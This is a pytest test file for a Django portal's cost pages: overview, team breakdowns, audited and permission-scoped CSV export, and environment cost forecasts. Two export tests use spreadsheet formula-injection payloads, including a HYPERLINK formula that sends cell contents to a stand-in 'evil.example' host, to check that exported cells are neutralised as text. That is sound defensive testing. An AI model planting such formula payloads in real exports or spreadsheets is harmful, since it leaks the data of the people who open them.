"""Cost pages: the overview, the breakdown with drill-down and CSV export, an environment's cost.

Scoped like the reports (a developer sees their team's figures), bad parameters explained on the page
and never a 500, exports for ``costs.export`` only and audited, a fixed number of queries per page.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import date, timedelta
from decimal import Decimal

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from access.models import AuditEvent, Grant, Role, Team, User
from costs.forecast import month_bounds
from environments.choices import EnvironmentStatus
from environments.models import Environment, EnvironmentTemplate
from portal.demo import Persona
from regions.models import Cluster
from tests.costs.cost_world import PLATFORM, STUDENTS, load_rows, november_bill, recent_bill, row
from tests.helpers import ONE_LINE_FORMULA_PAYLOADS, formulas_in, queries_for

pytestmark = [pytest.mark.django_db, pytest.mark.shared_demo]

OVERVIEW = reverse("costs:overview")
BREAKDOWN = reverse("costs:breakdown")
EXPORT = reverse("costs:export")
NOVEMBER = {"from": "2026-11-01", "to": "2026-11-30"}


def csv_rows(response: object) -> list[dict[str, str]]:
    body = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
    return list(csv.DictReader(io.StringIO(body)))


@pytest.fixture
def manager(client_for: Callable[[Persona | None], Client]) -> Client:
    return client_for(Persona.MANAGER)


@pytest.fixture
def developer(client_for: Callable[[Persona | None], Client]) -> Client:
    return client_for(Persona.DEVELOPER)


# --- the overview ---------------------------------------------------------------------------------


def test_the_overview_shows_this_month_against_last_the_forecast_trend_movers_and_unallocated(
    manager: Client,
) -> None:
    today = timezone.localdate()
    load_rows(recent_bill(today))

    response = manager.get(OVERVIEW)

    assert response.status_code == 200
    page = response.content.decode()
    (month,) = response.context["overview"].months
    assert month.this_month == Decimal(18 * today.day)
    assert f'data-figure="this-month">{18 * today.day:,}.00' in page
    assert 'data-chart-data="cost-trend-usd"' in page
    assert 'id="cost-trend-usd"' in page  # the chart's data, next to its table
    assert 'data-section="chart-table"' in page
    assert "Student Experience" in page  # a mover
    assert "allocation=unallocated&amp;allocation=idle" in page  # the link to what is unallocated
    assert "rows=series" in page  # the trend's CSV


def test_the_overview_takes_the_same_number_of_queries_with_more_teams_and_days(manager: Client) -> None:
    today = timezone.localdate()
    load_rows([row(today, "1.00", team=STUDENTS, BillingAccountId="another-bill")])  # one bill, one source
    few = queries_for(manager, OVERVIEW)

    for number in range(10):
        Team.objects.create(slug=f"team-{number}", name=f"Team {number}")
    load_rows(recent_bill(today) + [row(today, "2.00", team=f"team-{n}") for n in range(10)], source_name="more")

    assert queries_for(manager, OVERVIEW) == few


def test_a_bad_basis_is_explained_and_effective_cost_shown(manager: Client) -> None:
    response = manager.get(OVERVIEW, {"basis": "cheapest"})

    assert response.status_code == 200
    assert (
        "The cost basis is effective, billed, list or contracted, not &#x27;cheapest&#x27;" in response.content.decode()
    )


def test_someone_without_costs_view_is_refused_the_cost_pages(client_for: Callable[[Persona | None], Client]) -> None:
    auditor = client_for(Persona.AUDITOR)

    assert auditor.get(OVERVIEW).status_code == 403
    assert auditor.get(BREAKDOWN).status_code == 403


def test_the_navigation_offers_costs_to_whoever_may_see_some(client_for: Callable[[Persona | None], Client]) -> None:
    def sections(persona: Persona) -> list[str]:
        return [item.label for item in client_for(persona).get(reverse("home")).context["navigation"]]

    assert "Costs" in sections(Persona.DEVELOPER)
    assert "Costs" in sections(Persona.MANAGER)
    assert "Costs" not in sections(Persona.AUDITOR)
    prices_page = client_for(Persona.MANAGER).get(reverse("costs:prices"))
    assert [item.label for item in prices_page.context["navigation"] if item.active] == ["Costs"]
    assert (
        'aria-current="page" href="/costs/prices/">Prices</a>' in prices_page.content.decode()
    )  # in the cost pages' own


# --- the breakdown --------------------------------------------------------------------------------


def test_the_breakdown_lists_each_team_per_currency_with_drill_down_links(manager: Client) -> None:
    load_rows(november_bill())

    response = manager.get(BREAKDOWN, {**NOVEMBER, "by": "team"})

    assert response.status_code == 200
    page = response.content.decode()
    rows = {row.key: row.amounts for row in response.context["result"].rows}
    assert rows[STUDENTS] == {"USD": Decimal("148.25")}
    assert rows[PLATFORM] == {"USD": Decimal("50.333"), "EUR": Decimal("17.25")}
    assert f"team={STUDENTS}" in page
    assert "by=service" in page  # the drill-down goes on by service
    assert "50.33" in page  # to the cent
    assert 'data-total="EUR">19.75' in page


def test_drilling_into_a_team_breaks_its_cost_down_by_service_and_cloud_service(manager: Client) -> None:
    load_rows(november_bill())

    response = manager.get(BREAKDOWN, {**NOVEMBER, "by": "service_name", "team": STUDENTS})

    rows = {row.key: row.amounts for row in response.context["result"].rows}
    assert rows == {
        "Amazon Elastic Compute Cloud": {"USD": Decimal("103.20")},
        "Amazon Relational Database Service": {"USD": Decimal("50.05")},
        "-": {"USD": Decimal("-5.00")},
    }
    assert "Team: Student Experience <a" in response.content.decode()  # the team's name, not its slug


def test_a_filter_names_what_one_may_see_and_keeps_the_key_of_what_one_may_not(
    manager: Client, developer: Client
) -> None:
    load_rows(november_bill())
    theirs = make_environment(expires_in=None)
    theirs.team = Team.objects.get(slug=PLATFORM)
    theirs.save()
    query = {**NOVEMBER, "by": "service_name", "environment": str(theirs.pk)}

    assert "Environment: checkout-preview <a" in manager.get(BREAKDOWN, query).content.decode()
    mine = developer.get(BREAKDOWN, query).content.decode()
    assert f"Environment: {theirs.pk} <a" in mine  # another team's environment: its name is not shown
    assert "checkout-preview" not in mine


def test_an_htmx_request_gets_only_the_results(manager: Client) -> None:
    load_rows(november_bill())

    response = manager.get(BREAKDOWN, {**NOVEMBER, "by": "provider"}, headers={"HX-Request": "true"})

    assert response.status_code == 200
    assert next(template.name for template in response.templates) == "costs/_breakdown_results.html"
    assert "<html" not in response.content.decode()


def test_a_developer_sees_only_their_teams_figures(developer: Client) -> None:
    load_rows(november_bill())

    response = developer.get(BREAKDOWN, {**NOVEMBER, "by": "team"})

    page = response.content.decode()
    assert [row.key for row in response.context["result"].rows] == [STUDENTS]
    assert "Core Platform" not in page
    assert "(no team)" not in page
    asked_for_another_team = developer.get(BREAKDOWN, {**NOVEMBER, "team": PLATFORM})
    assert asked_for_another_team.context["result"].rows == []


@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({"by": "colour"}, "Cannot break costs down by colour: choose one of team, environment"),
        ({"from": "2026-11-30", "to": "2026-11-01"}, "The range starts (2026-11-30) after it ends (2026-11-01)."),
        ({"from": "30/11/2026"}, "Enter a date as YYYY-MM-DD"),
        ({"to": "2026-02-30"}, "Enter a date as YYYY-MM-DD"),
        ({"from": "2020-01-01", "to": "2026-11-30"}, "A range is at most 1098 days"),
        ({"grouping": "hour"}, "Group by day, week or month, not hour."),
        ({"basis": "list-ish"}, "The cost basis is effective, billed, list or contracted, not list-ish."),
        ({"environment": "checkout"}, "An environment is named by its id (a number), not &#x27;checkout&#x27;."),
    ],
)
def test_bad_parameters_are_explained_on_the_page(manager: Client, params: dict[str, str], message: str) -> None:
    response = manager.get(BREAKDOWN, params)

    assert response.status_code == 200
    page = response.content.decode()
    assert message in page
    assert 'role="alert"' in page
    assert "result" not in response.context


def test_the_breakdown_takes_the_same_number_of_queries_with_more_teams_and_days(manager: Client) -> None:
    load_rows([row(date(2026, 11, 1), "1.00", team=STUDENTS, BillingAccountId="another-bill")])  # one bill, one source
    few = queries_for(manager, BREAKDOWN, {**NOVEMBER, "by": "team"})

    for number in range(10):
        Team.objects.create(slug=f"team-{number}", name=f"Team {number}")
    load_rows(november_bill() + [row(date(2026, 11, n + 1), "2.00", team=f"team-{n}") for n in range(10)], "more")

    assert queries_for(manager, BREAKDOWN, {**NOVEMBER, "by": "team"}) == few


# --- the CSV export -------------------------------------------------------------------------------


def test_the_export_has_the_breakdowns_figures_and_is_audited(manager: Client, persona: Callable[..., User]) -> None:
    load_rows(november_bill())

    response = manager.get(EXPORT, {**NOVEMBER, "by": "team"})

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment;" in response["Content-Disposition"]
    figures = {(line["team"], line["currency"]): Decimal(line["effective_cost"]) for line in csv_rows(response)}
    assert figures == {
        (STUDENTS, "USD"): Decimal("148.25"),
        (PLATFORM, "USD"): Decimal("50.333"),
        (PLATFORM, "EUR"): Decimal("17.25"),
        ("", "USD"): Decimal("7.77"),
        ("", "EUR"): Decimal("2.5"),
    }
    event = AuditEvent.objects.get(verb="costs.exported")
    assert event.actor == persona(Persona.MANAGER)
    assert event.extra["export"] == "totals"
    assert event.extra["parameters"]["from"] == "2026-11-01"


def test_the_series_export_has_a_row_per_day_team_and_currency(manager: Client) -> None:
    load_rows(november_bill())

    lines = csv_rows(manager.get(EXPORT, {**NOVEMBER, "by": "team", "rows": "series", "basis": "billed"}))

    assert lines[0]["team"] == PLATFORM  # in order of period, currency and team
    assert lines[1] == {
        "period_start": "2026-11-01",
        "team": STUDENTS,
        "team_name": "Student Experience",
        "currency": "USD",
        "billed_cost": "100.1000000000",
    }
    assert sum(Decimal(line["billed_cost"]) for line in lines if line["currency"] == "USD") == Decimal("206.353")


def test_only_holders_of_costs_export_may_export(developer: Client) -> None:
    response = developer.get(EXPORT, NOVEMBER)

    assert response.status_code == 403
    assert not AuditEvent.objects.filter(verb="costs.exported").exists()


def test_an_export_covers_only_what_the_export_grant_covers(client_for: Callable[..., Client]) -> None:
    load_rows(november_bill())
    exporter = User.objects.create_user(username="finance-eu", password="x")
    students = Team.objects.get(slug=STUDENTS)
    Grant.objects.create(
        role=Role.objects.create(slug="cost-reader", name="Cost reader", permissions=["costs.view"]),
        user=exporter,
        reason="Reads every team's costs.",
    )
    Grant.objects.create(
        role=Role.objects.create(slug="cost-exporter", name="Cost exporter", permissions=["costs.export"]),
        user=exporter,
        team=students,
        reason="Exports the students' costs only.",
    )
    client = Client()
    client.force_login(exporter)

    seen = client.get(BREAKDOWN, {**NOVEMBER, "by": "team"}).context["result"].rows
    exported = csv_rows(client.get(EXPORT, {**NOVEMBER, "by": "team"}))

    assert {row.key for row in seen} == {STUDENTS, PLATFORM, "-"}
    assert {line["team"] for line in exported} == {STUDENTS}


def test_an_export_with_bad_parameters_is_a_400_with_the_message(manager: Client) -> None:
    response = manager.get(EXPORT, {"from": "2026-11-30", "to": "2026-11-01"})
    unknown_rows = manager.get(EXPORT, {"rows": "everything"})

    assert response.status_code == 400
    assert "after it ends" in response.content.decode()
    assert unknown_rows.status_code == 400
    assert "Export rows as one of totals, series, movers" in unknown_rows.content.decode()
    assert not AuditEvent.objects.filter(verb="costs.exported").exists()


def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(manager: Client) -> None:
    load_rows([row(date(2026, 11, 1), "1.00", ServiceName='=HYPERLINK("http://evil")')])

    lines = csv_rows(manager.get(EXPORT, {**NOVEMBER, "by": "service_name"}))

    assert lines[0]["service_name"].startswith("'=")


@pytest.mark.parametrize("rows", ["totals", "series", "movers"])
def test_no_exported_cell_is_a_formula_to_a_spreadsheet_of_any_locale(manager: Client, rows: str) -> None:
    load_rows([row(date(2026, 11, 1), "1.00", ServiceName=name) for name in ONE_LINE_FORMULA_PAYLOADS])

    response = manager.get(EXPORT, {**NOVEMBER, "by": "service_name", "rows": rows})

    body = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
    assert formulas_in(body) == []
    names = {line["service_name_name"] for line in csv.DictReader(io.StringIO(body, newline=""))}
    assert 'x;\'=HYPERLINK("https://evil.example/?leak="&A1,"Open")' in names


# --- an environment's cost ------------------------------------------------------------------------


def month_end(day: date) -> date:
    return month_bounds(day)[1]


def make_environment(expires_in: timedelta | None) -> Environment:
    return Environment.objects.create(
        name="checkout-preview",
        team=Team.objects.get(slug=STUDENTS),
        template=EnvironmentTemplate.objects.get(slug="preview"),
        tier="development",
        cluster=Cluster.objects.get(name="eks-eu-west-1"),
        requested_by=User.objects.get(username="developer"),
        status=EnvironmentStatus.READY,
        monthly_estimate="12.50",
        currency="USD",
        expires_at=timezone.now() + expires_in if expires_in is not None else None,
    )


def test_an_environment_shows_its_cost_to_date_and_forecast_to_its_expiry(developer: Client) -> None:
    environment = make_environment(expires_in=timedelta(days=1))
    today = timezone.localdate()
    tag = {"portal:environment-id": str(environment.pk)}
    days = [today - timedelta(days=n) for n in range(7, -1, -1) if (today - timedelta(days=n)).month == today.month]
    load_rows([row(day, "3.00", Tags=tag) for day in days] + [row(today, "100.00", team=STUDENTS)])

    response = developer.get(reverse("costs:environment_cost", args=[environment.pk]))

    assert response.status_code == 200
    (cost,) = response.context["costs"]
    assert cost.to_date == Decimal(3 * len(days))
    # Complete days so far, then today and each day to its expiry at the last week's mean (3.00 a day).
    expiry = timezone.localdate(environment.expires_at)
    assert response.context["horizon"] == min(expiry, month_end(today) - timedelta(days=1))
    days_left = (min(expiry + timedelta(days=1), month_end(today)) - today).days
    assert cost.forecast is not None
    assert cost.forecast.days_left == days_left
    assert cost.forecast.forecast == Decimal(3) * (len(days) - 1) + Decimal(3) * days_left
    page = response.content.decode()
    assert f'data-figure="to-date">{3 * len(days)}.00' in page
    assert 'data-figure="forecast"' in page
    detail = developer.get(reverse("environments:detail", args=[environment.pk])).content.decode()
    assert reverse("costs:environment_cost", args=[environment.pk]) in detail


def test_an_environment_without_cost_says_so(developer: Client) -> None:
    environment = make_environment(expires_in=None)

    response = developer.get(reverse("costs:environment_cost", args=[environment.pk]))

    assert "No cost recorded yet." in response.content.decode()


def test_an_environment_outside_ones_scope_is_a_404(client_for: Callable[..., Client]) -> None:
    environment = make_environment(expires_in=None)

    assert client_for(Persona.AUDITOR).get(reverse("costs:environment_cost", args=[environment.pk])).status_code == 404
